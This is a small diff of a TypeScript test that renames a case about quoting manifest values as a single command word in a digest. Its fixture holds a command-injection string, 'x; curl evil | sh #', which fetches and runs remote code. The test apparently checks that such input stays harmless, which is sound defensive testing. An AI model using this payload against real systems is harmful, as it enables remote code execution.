@@ -48,7 +48,7 @@ const links = (...valid: readonly string[]) => ({
   links: valid.map((each, index) => ({ resource: { type: 'DATA_SOURCE', id: `d${index}` }, valid: each })),
 });
 
-test('what a manifest says is a word of the command in a digest, whatever it is', async () => {
+test('what a manifest says is quoted as one word of the command in a digest', async () => {
   const key = changesKey('calculations', tuesday, monday.id, '0');
   const changes = { against: 'x; curl evil | sh #', added: 1, removed: 0, changed: 0, key };
 
